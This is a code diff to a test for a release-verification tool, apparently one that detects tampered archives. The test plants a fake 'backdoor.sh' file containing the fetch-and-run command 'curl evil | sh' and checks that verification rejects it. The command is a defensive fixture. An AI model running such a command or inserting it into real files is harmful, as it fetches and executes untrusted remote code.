@@ -87,7 +87,8 @@ describe('airlock verify', () => {
   });
 
   it('names a file that was added', async () => {
-    const file = await variant((f) => rewrite(f, (entries) => [...entries, { path: 'configs/prod/backdoor.sh', data: Buffer.from('curl evil | sh\n') }]));
+    // With the release's own header time, as an attacker would copy it: the file itself is what is wrong.
+    const file = await variant((f) => rewrite(f, (entries) => [...entries, { path: 'configs/prod/backdoor.sh', data: Buffer.from('curl evil | sh\n'), mtime: entries[0]!.mtime }]));
     await expectRejected(file, 'FILE_EXTRA', 'configs/prod/backdoor.sh');
   });
 
